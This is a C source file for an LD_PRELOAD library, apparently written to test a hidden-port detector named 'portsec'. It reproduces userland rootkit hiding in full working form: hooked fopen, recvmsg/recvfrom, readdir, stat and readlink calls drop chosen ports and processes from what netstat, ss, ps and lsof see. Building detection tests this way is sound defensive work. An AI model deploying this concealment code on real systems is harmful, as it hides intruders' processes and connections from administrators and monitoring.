/* hidelib - a test preload library that hides ports the way userland
 * rootkits do (Jynx/Azazel/bdvl style), so `portsec hidden` can be tested
 * against the real technique:
 *   - fopen/fopen64 of /proc/.../net/{tcp,tcp6,udp,udp6,raw,raw6}: the lines whose
 *     local port (a raw socket's protocol) is in HIDE_PORTS are dropped (what
 *     netstat/lsof read);
 *   - recvmsg/recvfrom on NETLINK_SOCK_DIAG sockets: inet_diag records whose
 *     source port is in HIDE_PORTS are cut out of the buffer (what ss reads).
 *   - readdir/readdir64 of /proc: processes whose comm is HIDE_COMM are left out
 *     (what ps, lsof, ss -p and netstat -p read).
 *   - stat of /proc/PID and readlink of /proc/PID/fd/N: ENOENT for processes
 *     whose comm is HIDE_LINKS_COMM (what lsof and ss -p do with an owner).
 * HIDE_PORTS="7001,7002" (decimal), HIDE_COMM=name, HIDE_LINKS_COMM=name.  Test use only; LD_PRELOAD it. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/mman.h>
#include <sys/types.h>
#include <unistd.h>

static int hidden_port(unsigned port)
{
	const char *e = getenv("HIDE_PORTS");
	if (!e)
		return 0;
	while (*e) {
		char *end;
		unsigned long v = strtoul(e, &end, 10);
		if (end == e)
			break;
		if (v == port)
			return 1;
		e = *end ? end + 1 : end;
	}
	return 0;
}

static int is_procnet(const char *path)
{
	const char *n = strstr(path ? path : "", "/net/");
	if (!n || strncmp(path, "/proc/", 6) != 0)
		return 0;
	n += 5;
	return !strcmp(n, "tcp") || !strcmp(n, "tcp6") || !strcmp(n, "udp") || !strcmp(n, "udp6") ||
	       !strcmp(n, "raw") || !strcmp(n, "raw6"); /* a raw socket's "port" is its protocol */
}

static FILE *filtered(FILE *(*real)(const char *, const char *), const char *path, const char *mode)
{
	FILE *in = real(path, "r");
	if (!in)
		return NULL;
	size_t cap = 1 << 16, n = 0;
	char *out = malloc(cap), line[512];
	while (out && fgets(line, sizeof line, in)) {
		/* "  0: 0100007F:1B59 ..." : the port is the hex after the first ':' of field 2 */
		char *f = strchr(line, ':');
		char *colon = f ? strchr(f + 1, ':') : NULL;
		if (colon && n > 0 && hidden_port((unsigned)strtoul(colon + 1, NULL, 16)))
			continue;
		size_t l = strlen(line);
		if (n + l + 1 > cap) {
			cap *= 2;
			char *nb = realloc(out, cap);
			if (!nb)
				break;
			out = nb;
		}
		memcpy(out + n, line, l);
		n += l;
	}
	fclose(in);
	if (!out)
		return NULL;
	/* hand back a FILE over an anonymous in-memory file (no leak, no disk) */
	int fd = memfd_create("hidelib", MFD_CLOEXEC);
	FILE *f = NULL;
	if (fd >= 0 && write(fd, out, n) == (ssize_t)n && lseek(fd, 0, SEEK_SET) == 0)
		f = fdopen(fd, "r");
	if (!f && fd >= 0)
		close(fd);
	free(out);
	return f;
}

#define HOOK_FOPEN(name)                                                                    \
	FILE *name(const char *path, const char *mode)                                      \
	{                                                                                   \
		FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, #name);        \
		if (is_procnet(path))                                                       \
			return filtered(real, path, mode);                                  \
		return real(path, mode);                                                    \
	}
HOOK_FOPEN(fopen)
HOOK_FOPEN(fopen64)

static int is_diag(int fd)
{
	struct sockaddr_nl sa;
	socklen_t l = sizeof sa;
	int proto = 0;
	socklen_t pl = sizeof proto;
	return getsockname(fd, (struct sockaddr *)&sa, &l) == 0 && sa.nl_family == AF_NETLINK &&
	       getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &proto, &pl) == 0 && proto == NETLINK_SOCK_DIAG;
}

/* cut hidden inet_diag records out of buf[0..len); returns the new length */
static ssize_t strip(char *buf, ssize_t len)
{
	ssize_t in = 0, out = 0;
	while (in + (ssize_t)sizeof(struct nlmsghdr) <= len) {
		struct nlmsghdr *h = (struct nlmsghdr *)(void *)(buf + in); /* netlink buffers are 4-aligned */
		ssize_t l = NLMSG_ALIGN(h->nlmsg_len);
		if (h->nlmsg_len < sizeof *h || in + l > len)
			break;
		int drop = 0;
		if (h->nlmsg_type == SOCK_DIAG_BY_FAMILY &&
		    h->nlmsg_len >= NLMSG_LENGTH(sizeof(struct inet_diag_msg))) {
			struct inet_diag_msg *m = (struct inet_diag_msg *)NLMSG_DATA(h);
			if ((m->idiag_family == AF_INET || m->idiag_family == AF_INET6) &&
			    hidden_port(ntohs(m->id.idiag_sport)))
				drop = 1;
		}
		if (!drop) {
			memmove(buf + out, buf + in, (size_t)l);
			out += l;
		}
		in += l;
	}
	return out;
}

ssize_t recvmsg(int fd, struct msghdr *msg, int flags)
{
	ssize_t (*real)(int, struct msghdr *, int) = dlsym(RTLD_NEXT, "recvmsg");
	ssize_t n = real(fd, msg, flags);
	if (n > 0 && msg->msg_iovlen == 1 && !(flags & MSG_PEEK) && is_diag(fd))
		n = strip(msg->msg_iov[0].iov_base, n);
	return n;
}

ssize_t recvfrom(int fd, void *buf, size_t len, int flags, struct sockaddr *a, socklen_t *al)
{
	ssize_t (*real)(int, void *, size_t, int, struct sockaddr *, socklen_t *) =
		dlsym(RTLD_NEXT, "recvfrom");
	ssize_t n = real(fd, buf, len, flags, a, al);
	if (n > 0 && !(flags & MSG_PEEK) && is_diag(fd))
		n = strip(buf, n);
	return n;
}

/* readdir/readdir64 of /proc: the entries of processes whose comm is
 * HIDE_COMM are skipped (what ps, top, lsof and ss -p read), the way
 * libprocesshider does it; the comm is read with raw syscalls */
#include <dirent.h>
#include <fcntl.h>
#include <sys/syscall.h>

static int comm_is(const char *pid, const char *want);

static int hidden_pid_entry(DIR *d, const char *name)
{
	const char *want = getenv("HIDE_COMM");
	if (!want || !*want || name[0] < '1' || name[0] > '9')
		return 0;
	char dpath[64], link[64];
	snprintf(dpath, sizeof dpath, "/proc/self/fd/%d", dirfd(d));
	long l = syscall(SYS_readlinkat, AT_FDCWD, dpath, link, sizeof link - 1);
	if (l <= 0)
		return 0;
	link[l] = '\0';
	if (strcmp(link, "/proc") != 0)
		return 0;
	return comm_is(name, want);
}

/* is the comm of /proc/PID (pid as text, up to a '/') want?  raw syscalls only */
static int comm_is(const char *pid, const char *want)
{
	char cpath[64], comm[32];
	snprintf(cpath, sizeof cpath, "/proc/%.*s/comm", (int)strcspn(pid, "/"), pid);
	int fd = (int)syscall(SYS_openat, AT_FDCWD, cpath, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	long n = syscall(SYS_read, fd, comm, sizeof comm - 1);
	syscall(SYS_close, fd);
	if (n <= 0)
		return 0;
	comm[n] = '\0';
	if (comm[n - 1] == '\n')
		comm[n - 1] = '\0';
	return strcmp(comm, want) == 0;
}

struct dirent *readdir(DIR *d)
{
	struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	while ((e = real(d)) && hidden_pid_entry(d, e->d_name))
		;
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *e;
	while ((e = real(d)) && hidden_pid_entry(d, e->d_name))
		;
	return e;
}

/* stat of /proc/PID and readlink of /proc/PID/fd/N fail with ENOENT for the
 * processes whose comm is HIDE_LINKS_COMM: lsof and ss -p lose the owner */
#include <errno.h>
#include <sys/stat.h>

static int links_hidden(const char *path, int fdlink)
{
	const char *want = getenv("HIDE_LINKS_COMM");
	if (!want || !*want || strncmp(path, "/proc/", 6) != 0 || path[6] < '1' || path[6] > '9')
		return 0;
	const char *rest = path + 6 + strspn(path + 6, "0123456789");
	if (fdlink ? strncmp(rest, "/fd/", 4) != 0 : *rest != '\0')
		return 0;
	return comm_is(path + 6, want);
}

int stat(const char *path, struct stat *st)
{
	int (*real)(const char *, struct stat *) = dlsym(RTLD_NEXT, "stat");
	if (links_hidden(path, 0)) {
		errno = ENOENT;
		return -1;
	}
	return real(path, st);
}

ssize_t readlink(const char *path, char *buf, size_t n)
{
	ssize_t (*real)(const char *, char *, size_t) = dlsym(RTLD_NEXT, "readlink");
	if (links_hidden(path, 1)) {
		errno = ENOENT;
		return -1;
	}
	return real(path, buf, n);
}
